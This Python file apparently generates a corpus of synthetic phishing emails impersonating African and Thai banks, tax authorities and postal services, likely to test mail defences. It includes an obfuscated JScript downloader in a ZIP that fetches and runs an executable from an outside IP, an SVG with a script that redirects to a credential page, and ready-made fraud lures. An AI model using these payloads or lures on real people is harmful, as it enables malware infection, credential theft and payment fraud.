    d="Takealot 'payment failed, order on hold' lure from a lookalike .shop domain; card-capture kit with 3-D Secure OTP step.",
    frm=("Takealot.com", "orders@takealot-orders.shop"), to=("Naledi Khumalo", "naledi.khumalo@gmail.com"),
    subj="Order #TKL91884521 on hold: payment declined", date="2024-11-26 06:58:17 +0200",
    src=("mta1.takealot-orders.shop", "mta1.takealot-orders.shop", "91.92.246.18"), dk=("takealot-orders.shop", "mail"),
    mid="<{h16}.{h8}@takealot-orders.shop>", xh=["X-Mailer: Sendy"], alt=True,
    html=card("#0b79bf", "https://takealot-orders.shop/static/takealot-logo.png", "takealot", "We couldn't process your payment",
              ["Hi Naledi,", "Your Black Friday order <b>#TKL91884521</b> (Samsung Galaxy A35 5G 128GB, R5 299) could not be completed because your bank declined the payment.",
               "Your order will be held for <b>12 hours</b>. Please update your payment method to avoid cancellation."],
              ("Update payment", "https://takealot-orders.shop/account/orders/TKL91884521/pay"),
              "Takealot Online (RF) (Pty) Ltd &middot; 10th Floor, 3 Bridge Street, Cape Town<br>You received this email because you placed an order on takealot.com."))

add(n="za-sapo-customs-fee", cat="phishing", kind="phish",
    d="SA Post Office customs-fee lure (R32.50) from a webmail-hosted sender with SPF softfail; short plain text like the SMS version of the campaign.",
    frm=("SA Post Office", "info@sapo-za-track.online"), to=("", "m.pillay@telkomsa.net"), rx="mx1.telkomsa.net",
    subj="SAPO: Your parcel RC482215977ZA is awaiting customs clearance", date="2023-05-16 15:44:02 +0200",
    src=("server.mail-cloudrelay.top", None, "185.234.72.19"), mf="bounce@server.mail-cloudrelay.top", auth=("softfail", "none", "fail"),
    mid="<{h12}.{h8}@server.mail-cloudrelay.top>", score="5.9", spam=False,
    text=("SAPO: Your international parcel RC482215977ZA has arrived at the International Mail Centre (Johannesburg) "
          "and is awaiting customs clearance.\n\nA customs fee of R32.50 is outstanding. Pay now to schedule delivery:\n"
          "https://sapo-za-track.online/rc482215977za\n\nParcels not cleared within 3 days will be returned to sender.\n\nThe South African Post Office\n"))

SUPQ = ("<div style=\"border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm\"><p class=\"MsoNormal\"><b>From:</b> Janine Botha &lt;accounts@karoobuild.co.za&gt;<br>"
        "<b>Sent:</b> Monday, 14 April 2025 09:02<br><b>To:</b> Ruan Steyn &lt;ruan@capesteel-supplies.co.za&gt;<br><b>Subject:</b> RE: Statement March 2025 - Karoo Build</p></div>"
        "<p class=\"MsoNormal\">Hi Ruan<br><br>Thanks for the statement. INV-22871 and INV-22904 are approved and will go in Thursday's payment run.<br><br>Regards<br>Janine</p>")
add(n="za-supplier-bank-change-reply-chain", cat="phishing", kind="phish",
    d="Vendor email compromise: the steel supplier's genuine Microsoft 365 mailbox (all auth passes) replies inside a real statement thread announcing new bank details, with a signed-looking PDF letter; no link.",
    frm=("Ruan Steyn", "ruan@capesteel-supplies.co.za"), to=("Janine Botha", "accounts@karoobuild.co.za"), rx="o365", reg="za",
    subj="RE: Statement March 2025 - Karoo Build", date="2025-04-15 11:26:09 +0200",
    src=("ZA1P275CU001.outbound.protection.outlook.com", "mail-zaanorthazon11020013.outbound.protection.outlook.com", "52.101.171.13"),
    dk=("capesteel-supplies.co.za", "selector1"), mid="<JNAP275MB{H16}{H12}@JNAP275MB1642.ZAFP275.PROD.OUTLOOK.COM>",
    irt="<JNAP275MB0093A1B22C5E0D4F9FA7E1C2C4A82@JNAP275MB0093.ZAFP275.PROD.OUTLOOK.COM>",
    xh=["Thread-Topic: Statement March 2025 - Karoo Build", "Thread-Index: AQHbrQ1xkq7mX0T3fUyUqGXs3vB8Q7OmHk1w", "Content-Language: en-ZA", "X-MS-Has-Attach: yes"],
    text=("Hi Janine\n\nThank you. Please note we have moved our banking to Investec following our annual audit, the FNB account will be closed at month end.\n\n"
          "Please update our details before Thursday's run and use the new account for INV-22871 and INV-22904 (total R186 412,50). "
          "The confirmation letter on our letterhead is attached.\n\nPlease just confirm by email once updated, I am in meetings the whole afternoon so can't take calls.\n\n"
          "Kind regards\nRuan Steyn\nAccounts Receivable | Cape Steel Supplies (Pty) Ltd\n021 551 0384 | www.capesteel-supplies.co.za\n\n"
          "From: Janine Botha <accounts@karoobuild.co.za>\nSent: Monday, 14 April 2025 09:02\nTo: Ruan Steyn <ruan@capesteel-supplies.co.za>\n"
          "Subject: RE: Statement March 2025 - Karoo Build\n\nHi Ruan\n\nThanks for the statement. INV-22871 and INV-22904 are approved and will go in Thursday's payment run.\n\nRegards\nJanine\n"),
    html=outlook_html(["Hi Janine", "", "Thank you. Please note we have moved our banking to Investec following our annual audit, the FNB account will be closed at month end.", "",
                       "Please update our details before Thursday&#8217;s run and use the new account for INV-22871 and INV-22904 (total R186&nbsp;412,50). The confirmation letter on our letterhead is attached.", "",
                       "Please just confirm by email once updated, I am in meetings the whole afternoon so can&#8217;t take calls.", ""],
                      '<p class="MsoNormal">Kind regards<br><b>Ruan Steyn</b><br>Accounts Receivable | Cape Steel Supplies (Pty) Ltd<br>021 551 0384 | www.capesteel-supplies.co.za</p>', SUPQ),
    att=[pdf_att("CSS_Banking_Confirmation_Letter.pdf", ["CAPE STEEL SUPPLIES (PTY) LTD", "Reg. 2009/018842/07  VAT 4150251846", "14 Marine Drive, Paarden Eiland, 7405", "",
                                                         "15 April 2025", "", "CHANGE OF BANKING DETAILS", "", "Please be advised that with effect from 15 April 2025 all payments are to be made to:",
                                                         "Bank: Investec Bank Limited", "Account name: Cape Steel Supplies", "Account number: 10012 884 190", "Branch code: 580105",
                                                         "", "All previous banking details are no longer valid.", "", "R. Steyn, Financial Accounting"], title="Banking confirmation")])

add(n="za-sharepoint-share-compromised-tenant", cat="phishing", kind="phish",
    d="Genuine SharePoint sharing notification from a compromised accounting firm's tenant (passes all checks); the shared OneNote file links to an AiTM Microsoft 365 login page.",
    frm=("Nomsa Zulu", "no-reply@sharepointonline.com"), to=("Pieter van Wyk", "pieter@karoobuild.co.za"), rx="o365", reg="za",
    subj="Nomsa Zulu shared \"Karoo Build - Remittance Advice April 2025\" with you", date="2025-04-29 14:40:33 +0200",
    src=("nam11-dm6-obe.outbound.protection.outlook.com", "mail-dm6nam11on2061.outbound.protection.outlook.com", "40.107.223.61"),
    mf="no-reply@sharepointonline.com", dk=("sharepointonline.com", "selector1"),
    mid="<{h8}-{H12}@odspnotify>", xh=["X-Mailer: Microsoft SharePoint Foundation 2010", "X-SharePoint-Tenant: zulu-accounting.sharepoint.com"], alt=True,
    html=page('<table width="100%" cellpadding="0" cellspacing="0"><tr><td style="padding:24px;font-family:\'Segoe UI\',Arial;font-size:14px;color:#323130">'
              '<p style="font-size:18px">Nomsa Zulu shared a file with you</p><p>Please find the remittance for April attached. Kindly confirm receipt.</p>'
              '<table cellpadding="0" cellspacing="0" style="border:1px solid #e1dfdd"><tr><td style="padding:12px"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/item-types/48/one.png" width="32"></td>'
              '<td style="padding:12px"><a href="https://zuluaccounting.sharepoint.com/:o:/g/personal/nomsa_zuluaccounting_co_za/EfXk2Qm8b0hJr1sZ8h3aP1QBm3X7k0qv1W9lzE_cKq4hRw?e=Q7vD2k" '
              'style="color:#0078d4;text-decoration:none">Karoo Build - Remittance Advice April 2025</a></td></tr></table>'
              '<p><a href="https://zuluaccounting.sharepoint.com/:o:/g/personal/nomsa_zuluaccounting_co_za/EfXk2Qm8b0hJr1sZ8h3aP1QBm3X7k0qv1W9lzE_cKq4hRw?e=Q7vD2k" '
              'style="background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none">Open</a></p>'
              '<p style="font-size:12px;color:#605e5c">This link only works for the direct recipients of this message.</p>'
              '<p style="font-size:11px;color:#a19f9d"><img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20240129.001/assets/brand-icons/product/png/microsoft_48x1.png" width="16"> Microsoft respects your privacy. To learn more, please read our <a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a>.<br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>'
              '</td></tr></table>', bg="#ffffff"))

# ===== Nigeria =====
add(n="ng-gtbank-bvn-update", cat="phishing", kind="phish",
    d="GTBank BVN-linkage lure from a lookalike .com.ng sender; kit collects internet banking ID, password, token code and card PIN.",
    frm=("GTBank", "customercare@gtbank-bvnupdate.com.ng"), to=("Chinedu Okafor", "chinedu.okafor@yahoo.com"), rx="mta7.am0.yahoodns.net",
    subj="Urgent: Link your BVN/NIN to avoid account restriction", date="2024-04-02 09:20:55 +0100",
    src=("mail.gtbank-bvnupdate.com.ng", "host-154-113-9-210.whogohost.net", "154.113.9.210"), dk=("gtbank-bvnupdate.com.ng", "default"),
    mid="<{h32}@gtbank-bvnupdate.com.ng>", xh=[PHPM], alt=True,
    html=card("#dd4f05", "https://gtbank-bvnupdate.com.ng/img/gtco.png", "GTBank", "BVN / NIN Linkage Notice",
              ["Dear Esteemed Customer,", "In compliance with the CBN directive on the linkage of Bank Verification Number (BVN) and National Identification Number (NIN) to all accounts, your account has been flagged for <b>Post-No-Debit (PND) restriction</b>.",
               "Kindly update your records within 72 hours to avoid restriction of your account and debit cards."],
              ("Update BVN Now", "https://gtbank-bvnupdate.com.ng/ibank/bvn-nin/update?c=Q0hJTkVEVQ"),
              "Guaranty Trust Bank Ltd. Plot 635, Akin Adesola Street, Victoria Island, Lagos. GTConnect: 0700 482 666 328"))

add(n="ng-accessbank-token-shortener", cat="phishing", kind="phish",
    d="Access Bank 'hardware token deactivated' lure from a Gmail sender; the link is a URL shortener hop to the kit, a broken-English template.",
    frm=("Access Bank Plc", "accessbank.e.alert@gmail.com"), to=("Aisha Bello", "aisha.bello@gmail.com"),
    subj="Access Bank Notification: Your Token Has Been Deactivated", date="2023-08-14 19:02:31 +0100",
    src=GMAIL_SRC, dk=GMAIL_DK, mid="<CAO{b}@mail.gmail.com>", gm=True,
    text=("Dear Customer,\n\nThis is to notify you that your hardware token has being deactivated due to incomplete update of your account "
          "information on our system. You will not be able to perform transfers until the token is re-activated.\n\n"
          "Click on the link below to reactivate your token now:\nhttps://t.ly/AccessTkn-Reactivate\n\n"
          "Note: failure to comply within 24hours your account will be restricted.\n\nThank you for banking with us.\nAccess Bank Plc\nMore Than Banking\n"),
    html=gmail_html(["Dear Customer,", "", "This is to notify you that your hardware token has being deactivated due to incomplete update of your account information on our system. You will not be able to perform transfers until the token is re-activated.",
                     "", 'Click on the link below to reactivate your token now:<br><a href="https://t.ly/AccessTkn-Reactivate">https://t.ly/AccessTkn-Reactivate</a>', "",
                     "Note: failure to comply within 24hours your account will be restricted.", "", "Thank you for banking with us.", "<b>Access Bank Plc</b>", "<i>More Than Banking</i>"]))

add(n="ng-firstbank-compromised-edu", cat="phishing", kind="phish",
    d="FirstBank account-reactivation lure sent from a compromised polytechnic staff mailbox (Google Workspace, all auth passes) to many undisclosed recipients; kit on a free hosting subdomain.",
    frm=("FirstBank Nigeria", "bursary.clerk@fedpolyilaro-mail.edu.ng"), to=("", "tunde.adeyemi@gmail.com"), to_hdr="undisclosed-recipients:;",
    subj="FirstBank: Account Reactivation Required", date="2024-07-09 02:17:46 +0100",
    src=("mail-sor-f69.google.com", "mail-sor-f69.google.com", "209.85.220.69"), dk=("fedpolyilaro-mail.edu.ng", "google"), pol="NONE",
    mid="<CAH{b}@mail.gmail.com>", gm=True,
    text=("Dear Valued Customer,\n\nYour FirstBank account has been temporarily deactivated because we could not verify your details during our routine system upgrade.\n\n"
          "To reactivate, login with your FirstOnline details via the secure link below:\nhttps://firstbank-ng-reactivate.web.app/firstonline/login\n\n"
          "FirstBank - You First.\nSamuel Asabia House, 35 Marina, Lagos.\n"))

FIRS_JS = ("var _0x3f1a=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x4d\\x53\\x58\\x4d\\x4c\\x32\\x2e\\x58\\x4d\\x4c\\x48\\x54\\x54\\x50'];\r\n"
           "// FIRS TaxPro-Max penalty notice viewer\r\n"
           "var sh=new ActiveXObject(_0x3f1a[0]);var tmp=sh.ExpandEnvironmentStrings('%TEMP%');\r\n"
           "var x=new ActiveXObject(_0x3f1a[1]);x.open('GET','hxxp://176.113.115.84/tpm/notice.dat'.replace('hxxp','http'),false);x.send();\r\n"
           "if(x.status==200){var s=new ActiveXObject('ADODB.Stream');s.Type=1;s.Open();s.Write(x.responseBody);\r\n"
           "s.SaveToFile(tmp+'\\\\tpmview.exe',2);s.Close();sh.Run(tmp+'\\\\tpmview.exe',0,false);}\r\n").encode()
add(n="ng-firs-taxpromax-zip", cat="malware", kind="phish",
    d="FIRS TaxPro-Max penalty notice carrying a ZIP with an obfuscated JScript downloader that fetches and runs an executable; sent from a lookalike domain.",
    frm=("FIRS TaxPro-Max", "notice@firs-taxpromax.com"), to=("Folake Adebayo", "accounts@adebayo-logistics.com.ng"), rx="o365", scl=1,
    subj="Notice of Penalty for Late Filing of VAT Returns - TIN 2218xxxx-0001", date="2024-10-21 08:04:12 +0100",
    src=("mx.firs-taxpromax.com", "vm1742.contaboserver.net", "185.217.98.121"), dk=("firs-taxpromax.com", "mail"),
    mid="<{h24}@firs-taxpromax.com>", xh=["X-Mailer: Microsoft Outlook 16.0"],
    text=("Dear Taxpayer,\n\nOur records show that your company failed to file its monthly VAT returns for July and August 2024 on the TaxPro-Max platform "
          "as required under Section 35 of the VAT Act.\n\nA penalty of N1,150,000.00 has been assessed. Details of the assessment and the payment "
          "procedure are in the attached notice (compressed for security). Open the file on a Windows PC.\n\n"
          "Objection to this notice must be filed within 30 days.\n\nTax Compliance Department\nFederal Inland Revenue Service\nRevenue House, 15 Sokode Crescent, Wuse Zone 5, Abuja\n"),
    att=[attachment("application/zip", "FIRS_Penalty_Notice_TPM2024.zip", files.zip_archive([("FIRS_Penalty_Notice_TPM2024.js", FIRS_JS)]))])

# ===== Kenya =====
add(n="ke-mpesa-reversal-pin", cat="phishing", kind="phish",
    d="Fake M-PESA reversal notice from a lookalike Safaricom domain; the 'confirm reversal' page asks for the M-PESA PIN and phone number.",
    frm=("M-PESA", "mpesa@safaricom-mpesa-care.co.ke"), to=("Wanjiru Kamau", "wanjiru.kamau@gmail.com"),
    subj="M-PESA: Reversal request RKT4H7LX9B pending your confirmation", date="2023-10-03 12:47:19 +0300",
    src=("smtp.safaricom-mpesa-care.co.ke", "mail.truehost-ke.cloud", "105.29.163.40"), dk=("safaricom-mpesa-care.co.ke", "default"),
    mid="<{h16}@safaricom-mpesa-care.co.ke>", xh=[PHPM], alt=True,
    html=card("#43b02a", "https://safaricom-mpesa-care.co.ke/img/mpesa.png", "M-PESA", "Transaction reversal request",
              ["Dear Customer,", "A reversal request has been raised for transaction <b>RKT4H7LX9B</b> of <b>Ksh 7,500.00</b> sent to your line on 03/10/2023.",
               "If you did not receive this money, confirm the reversal below. If not confirmed within 2 hours, Ksh 7,500.00 will be deducted from your M-PESA balance."],
              ("Confirm or dispute", "https://safaricom-mpesa-care.co.ke/reversal/RKT4H7LX9B"),
              "Safaricom PLC, Safaricom House, Waiyaki Way, Westlands, Nairobi. M-PESA customer care: 234"))

add(n="ke-kra-itax-compliance", cat="phishing", kind="phish",
    d="KRA iTax 'tax compliance certificate suspended' lure to an SME, sender on a lookalike domain with DMARC none; kit asks for KRA PIN and iTax password.",
    frm=("Kenya Revenue Authority", "itax@kra-itax-portal.com"), to=("Otieno Wafula", "otieno@wafula-hardware.co.ke"), rx="o365",
    subj="KRA: Your Tax Compliance Certificate has been suspended", date="2025-07-08 10:02:33 +0300",
    src=("mail.kra-itax-portal.com", "srv-ke-21.hostpinnacle.cloud", "102.212.246.91"), dk=("kra-itax-portal.com", "default"), auth=("pass", "pass", "none"),
    mid="<{h24}@kra-itax-portal.com>", alt=True,
    html=card("#c8102e", "https://kra-itax-portal.com/images/kra_logo.png", "KRA", "Tax Compliance Certificate (TCC) suspended",
              ["Dear Taxpayer,", "Following a review of your iTax ledger, your Tax Compliance Certificate has been <b>suspended</b> due to unreconciled PAYE and VAT liabilities for the period January-June 2025.",
               "Suspended TCCs are flagged in public procurement (e-GP) and eCitizen. Log in to iTax to reconcile and reactivate the certificate."],
              ("Log in to iTax", "https://kra-itax-portal.com/KRA-Portal/"),
              "Kenya Revenue Authority &middot; Times Tower, Haile Selassie Avenue, Nairobi &middot; Call Centre 0711 099 999"))

add(n="ke-equity-msforms", cat="phishing", kind="phish",
    d="Equity Bank 'Equitel account locked' lure that links to a genuine Microsoft Forms form (forms.office.com) asking for account number, ID and PIN; sent from a lookalike outlook.com account.",
    frm=("Equity Bank Kenya", "equitybank-ke-support@outlook.com"), to=("Mercy Achieng", "mercy.achieng@gmail.com"),
    subj="Equity Bank: Equitel line locked - update your details", date="2024-12-04 17:25:50 +0300",
    src=("EUR05-AM6-obe.outbound.protection.outlook.com", "mail-am6eur05olkn2011.outbound.protection.outlook.com", "52.103.33.11"),
    dk=("outlook.com", "selector1"), mid="<AM6P192MB{H16}@AM6P192MB0455.EURP192.PROD.OUTLOOK.COM>",
    text=("Dear Customer\n\nYour Equitel line and Equity Mobile account has been locked because your KYC details are outdated.\n\n"
          "Fill in the Equity Bank KYC update form to unlock (takes 2 minutes):\n"
          "https://forms.office.com/Pages/ResponsePage.aspx?id=Xk9pQ2m1b0-8JrEw1vYVbHc1aZ3Q8RzqK2l0nP7sYt5UQ0lWMUFNRjRLVjhIVzJBM1Y5QS4u\n\n"
          "Equity Bank Kenya Limited\nEquity Centre, Hospital Road, Upper Hill, Nairobi\n"))

add(n="ke-ceo-fraud-urgent-payment", cat="phishing", kind="phish",
    d="CEO fraud at a Nairobi SME: the 'managing director' writes from a lookalike domain (one letter doubled) asking the accountant for an urgent confidential RTGS payment; no link or attachment.",
    frm=("James Mwangi", "james.mwangi@savanaa-agritech.co.ke"), to=("Grace Njeri", "grace.njeri@savana-agritech.co.ke"), rx="o365",
    rt="James Mwangi <md.jmwangi@proton.me>",
    subj="Urgent and confidential", date="2025-03-18 09:11:02 +0300",
    src=("mail.savanaa-agritech.co.ke", "vps-5521.ke-hosting.cloud", "197.248.116.35"), dk=("savanaa-agritech.co.ke", "default"),
    mid="<{h16}@savanaa-agritech.co.ke>", xh=["X-Mailer: iPhone Mail (21D61)"],
    text=("Grace,\n\nAre you at the office? I need you to process an RTGS payment today for a new supplier for the Nakuru greenhouse project. "
          "The deal is still under NDA so please keep it between us until I brief the board on Friday.\n\n"
          "Amount is KES 1,480,000. I will send you the beneficiary details as soon as you confirm you can do it before 2pm. "
          "I'm in back to back meetings, email only.\n\nJames\n\nSent from my iPhone\n"))

# ===== Ghana =====
add(n="gh-mtn-momo-pending", cat="phishing", kind="phish",
    d="MTN MoMo 'GHS 1,200 pending, accept to receive' lure from a throwaway domain with SPF neutral; kit asks for MoMo number and PIN.",
    frm=("MTN MoMo", "momo@mtn-momo-gh.xyz"), to=("Kwame Mensah", "kwame.mensah@gmail.com"),
    subj="You have received GHS 1,200.00 - Accept payment", date="2024-02-27 16:30:04 +0000",
    src=("ip-45-61-136-22.static.servers.com", "ip-45-61-136-22.static.servers.com", "45.61.136.22"), mf="momo@mtn-momo-gh.xyz",
    auth=("neutral", "none", "none"), mid="<{h12}@ip-45-61-136-22.static.servers.com>",
    html=page('<div style="max-width:520px;margin:auto;background:#ffcb05;padding:22px;font-family:Arial">'
              '<h2 style="margin-top:0">MTN MoMo</h2><div style="background:#fff;padding:18px">'
              '<p>Y\'ello Kwame,</p><p>You have received <b>GHS 1,200.00</b> from ABENA OWUSU (0244xxx812). Transaction ID: 52038816271.</p>'
              '<p>The payment is pending. Accept the payment to credit your wallet. Unaccepted payments are returned after 24 hours.</p>'
              '<p><a href="https://mtn-momo-gh.xyz/accept?tid=52038816271" style="background:#000;color:#ffcb05;padding:10px 18px;text-decoration:none">ACCEPT PAYMENT</a></p>'
              '<p style="font-size:11px">MTN Mobile Money Limited. Regulated by the Bank of Ghana.</p></div></div>'))

add(n="gh-gra-vat-qr-pdf", cat="phishing", kind="phish",
    d="GRA E-VAT non-compliance notice with a PDF whose only call to action is a QR code leading to a credential page (no clickable link in the mail); sender on a lookalike domain.",
    frm=("Ghana Revenue Authority", "e-vat@gra-gov-gh.org"), to=("Ama Boateng", "finance@accrafresh-foods.com.gh"), rx="o365",
    subj="E-VAT Invoicing: Notice of Non-Compliance - Ref GRA/DTRD/EV/0611", date="2024-06-11 08:37:21 +0000",
    src=("mail.gra-gov-gh.org", "server1.gra-gov-gh.org", "193.233.48.79"), dk=("gra-gov-gh.org", "default"),
    mid="<{h24}@gra-gov-gh.org>",
    text=("Dear Taxpayer,\n\nPlease find attached a notice concerning the integration of your invoicing system with the GRA E-VAT platform.\n\n"
          "Kindly scan the QR code in the notice with your phone to confirm your taxpayer details on the Taxpayers' Portal within 5 working days "
          "to avoid the administrative penalty under Section 86 of the Revenue Administration Act 2016 (Act 915).\n\n"
          "Domestic Tax Revenue Division\nGhana Revenue Authority\n"),
    att=[attachment("application/pdf", "GRA_EVAT_Notice_0611.pdf", qr_pdf(
        ["GHANA REVENUE AUTHORITY", "Domestic Tax Revenue Division", "", "NOTICE OF NON-COMPLIANCE - E-VAT INVOICING", "Ref: GRA/DTRD/EV/0611",
         "", "Our records indicate that your business has not completed", "integration with the E-VAT platform.", "",
         "Scan the QR code below to confirm your details and avoid penalties.", "Scan with your phone camera."],
        "https://gra-taxpayersportal.com/evat/confirm?ref=EV0611&tin=C0004821997", "GRA E-VAT Notice"))])

# ===== Egypt (Arabic) =====
add(n="eg-cib-data-update", cat="phishing", kind="phish",
    d="Arabic CIB 'update your data or your card will be stopped' lure from a lookalike domain; kit collects card number, CVV and OTP.",
    frm=("البنك التجاري الدولي CIB", "info@cib-egypt-online.com"), to=("Ahmed Hassan", "ahmed.hassan1988@gmail.com"),
    subj="تنبيه هام: يرجى تحديث بياناتك لتجنب إيقاف البطاقة", date="2024-01-15 11:22:09 +0200",
    src=("mail.cib-egypt-online.com", "server.cib-egypt-online.com", "79.137.202.45"), dk=("cib-egypt-online.com", "default"),
    mid="<{h32}@cib-egypt-online.com>", xh=[PHPM], alt=True,
    html=card("#0b3c7d", "https://cib-egypt-online.com/img/cib.png", "CIB", "تحديث البيانات",
              ["عميلنا العزيز،", "وفقاً لتعليمات البنك المركزي المصري، يجب تحديث بيانات جميع العملاء. لم يتم تحديث بياناتك حتى الآن.",
               "سيتم إيقاف بطاقتك والخدمات الإلكترونية خلال <b>24 ساعة</b> في حالة عدم التحديث."],
              ("تحديث البيانات الآن", "https://cib-egypt-online.com/ar/update?id=88214"),
              "البنك التجاري الدولي (مصر) ش.م.م - خدمة العملاء 19666", lang="ar", rtl=True))

add(n="eg-nbe-whatsapp-callback", cat="phishing", kind="phish",
    d="Arabic National Bank of Egypt 'card suspended' message from a Gmail account directing the victim to a WhatsApp number (wa.me) where the fake agent takes the OTP.",
    frm=("البنك الأهلي المصري", "nbe.egypt.service@gmail.com"), to=("Mona Ibrahim", "mona.ibrahim.eg@gmail.com"),
    subj="البنك الأهلي المصري - تم إيقاف بطاقة الخصم المباشر مؤقتاً", date="2025-01-27 20:05:44 +0200",
    src=GMAIL_SRC, dk=GMAIL_DK, mid="<CAK{b}@mail.gmail.com>", gm=True,
    text=("عميلنا العزيز\n\nتم إيقاف بطاقة الخصم المباشر الخاصة بك مؤقتاً بسبب محاولة دخول غير معتادة على الأهلي نت.\n\n"
          "لإعادة تفعيل البطاقة يرجى التواصل فوراً مع خدمة العملاء عبر واتساب:\nhttps://wa.me/201098834271\n\n"
          "أو الاتصال على 01098834271\n\nملحوظة: سيتم إلغاء البطاقة نهائياً إذا لم يتم التواصل خلال 12 ساعة.\n\nالبنك الأهلي المصري\n"))

add(n="eg-egyptpost-fee", cat="phishing", kind="phish",
    d="Arabic Egypt Post 'shipment held, pay 25 EGP' lure from a cheap .top domain; card-capture kit.",
    frm=("البريد المصري", "track@egyptpost-eg.top"), to=("", "karim.samir@yahoo.com"), rx="mta6.am0.yahoodns.net",
    subj="البريد المصري: شحنتك EE471029385EG معلقة", date="2023-12-05 09:48:30 +0200",
    src=("vmi1528113.contaboserver.net", "vmi1528113.contaboserver.net", "161.97.88.203"), mf="root@vmi1528113.contaboserver.net", auth=("none", "none", "none"),
    mid="<{h24}@vmi1528113.contaboserver.net>",
    html=page('<div dir="rtl" style="font-family:Tahoma;font-size:15px;padding:20px"><b>الهيئة القومية للبريد</b><br><br>'
              'عزيزي العميل،<br>شحنتك رقم <b>EE471029385EG</b> موجودة في مركز الفرز ولم يتم توصيلها بسبب عدم سداد رسوم التوصيل (25 جنيه).<br><br>'
              'يرجى سداد الرسوم وتأكيد العنوان من خلال الرابط:<br><a href="https://egyptpost-eg.top/ar/pay">https://egyptpost-eg.top/ar/pay</a><br><br>'
              'سيتم إرجاع الشحنة إلى الراسل خلال 48 ساعة.</div>', "ar", True))

# ===== Morocco (French) =====
add(n="ma-attijariwafa-acces-suspendu", cat="phishing", kind="phish",
    d="French Attijariwafa bank 'Attijarinet access suspended' lure from a lookalike domain; kit asks for identifiant, mot de passe and SMS code.",
    frm=("Attijariwafa bank", "securite@attijarinet-securite.com"), to=("Youssef El Amrani", "y.elamrani@menara.ma"), rx="mx1.menara.ma",
    subj="Attijarinet : votre accès a été suspendu", date="2024-05-06 10:14:52 +0100",
    src=("mail.attijarinet-securite.com", "ns3108442.ip-51-68-11.eu", "51.68.11.140"), dk=("attijarinet-securite.com", "mail"),
    mid="<{h16}.{ts}@attijarinet-securite.com>", xh=[PHPM], alt=True,
    html=card("#f39200", "https://attijarinet-securite.com/img/awb.png", "Attijariwafa bank", "Votre accès Attijarinet est suspendu",
              ["Cher(e) client(e),", "Suite à plusieurs tentatives de connexion erronées, l'accès à votre espace Attijarinet a été <b>suspendu</b> par mesure de sécurité.",
               "Pour réactiver votre accès, veuillez confirmer votre identité. Sans action de votre part sous 48 heures, votre carte sera également bloquée."],
              ("Réactiver mon accès", "https://attijarinet-securite.com/particuliers/reactivation"),
              "Attijariwafa bank, 2 boulevard Moulay Youssef, Casablanca. Centre de relation client : 05 22 58 88 55", lang="fr"))

add(n="ma-barid-amana-colis", cat="phishing", kind="phish",
    d="French Barid Al-Maghrib / Amana parcel-fee lure (12,50 MAD) sent through a compromised small-business mailbox on a Moroccan host (auth passes).",
    frm=("Amana - Barid Al-Maghrib", "contact@riad-zitoune-fes.ma"), to=("", "salma.benjelloun@gmail.com"),
    subj="Amana : votre colis CP729184455MA est en attente de livraison", date="2023-09-12 14:03:07 +0100",
    src=("mail.riad-zitoune-fes.ma", "srv41.genious-hosting.ma", "196.200.137.58"), dk=("riad-zitoune-fes.ma", "default"),
    mid="<{h32}@riad-zitoune-fes.ma>", xh=["User-Agent: Roundcube Webmail/1.6.1"],
    text=("Barid Al-Maghrib - Amana\n\nBonjour,\n\nVotre colis CP729184455MA n'a pas pu être livré : les frais de dédouanement (12,50 MAD) n'ont pas été réglés.\n\n"
          "Veuillez régler les frais et choisir une nouvelle date de livraison :\nhttps://amana-ma-suivi.com/colis/CP729184455MA\n\n"
          "Sans paiement sous 72 heures le colis sera retourné à l'expéditeur.\n\nService client Amana\n"))

DGI_SVG = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" viewBox="0 0 800 600">\n'
           '<rect width="800" height="600" fill="#f5f5f5"/><text x="40" y="80" font-family="Arial" font-size="28" fill="#004b87">Direction Générale des Impôts</text>\n'
           '<text x="40" y="140" font-family="Arial" font-size="18">Avis de remboursement de crédit de TVA - chargement...</text>\n'
           '<script type="text/javascript"><![CDATA[\nvar e="c2ltcGwtdGF4LW1hLnNpdGUvZGdpL2NvbnRyaWJ1YWJsZS8=";var m="ZHJpc3MuY29tcHRhYmlsaXRlQGF0bGFzLWRpc3RyaWJ1dGlvbi5tYQ==";\n'
           'window.location.href="https://"+atob(e)+"?u="+atob(m);\n]]></script>\n</svg>\n')
add(n="ma-dgi-svg-attachment", cat="phishing", kind="phish",
    d="French DGI 'VAT credit refund notice' carrying an SVG attachment whose embedded script redirects to a credential page with the victim's address pre-filled.",
    frm=("DGI - Simpl-TVA", "simpl-tva@dgi-tax-gov.ma.com"), to=("Driss Ouazzani", "driss.comptabilite@atlas-distribution.ma"), rx="o365",
    subj="Avis de remboursement de crédit de TVA - exercice 2023", date="2024-03-04 09:27:15 +0000",
    src=("mail.dgi-tax-gov.ma.com", "vps-f2a91c.vps.ovh.net", "54.38.212.9"), dk=("dgi-tax-gov.ma.com", "default"),
    mid="<{h24}@dgi-tax-gov.ma.com>",
    text=("Madame, Monsieur,\n\nNous vous informons qu'un remboursement de crédit de TVA d'un montant de 38 420,00 MAD a été validé au titre de l'exercice 2023.\n\n"
          "Veuillez consulter l'avis joint et confirmer vos coordonnées bancaires sur le portail Simpl-TVA.\n\n"
          "Direction Générale des Impôts\nRoyaume du Maroc\n"),
    att=[attachment("image/svg+xml", "Avis_Remboursement_TVA_2023.svg", DGI_SVG.encode())])

# ===== Thailand =====
add(n="th-kbank-kplus-verify", cat="phishing", kind="phish",
    d="Thai K PLUS 'verify identity or the app will be suspended' lure from a lookalike domain; kit collects citizen ID, phone, and account PIN.",
    frm=("KBank K PLUS", "noreply@kplus-kbank-verify.com"), to=("Somchai Wongsawat", "somchai.w@hotmail.com"), rx="o365",
    subj="K PLUS: กรุณายืนยันตัวตนภายใน 24 ชั่วโมง", date="2024-08-19 07:55:41 +0700",
    src=("mail.kplus-kbank-verify.com", "103-74-53-12.static.tnet.th", "103.74.53.12"), dk=("kplus-kbank-verify.com", "default"),
    mid="<{h24}@kplus-kbank-verify.com>", alt=True,
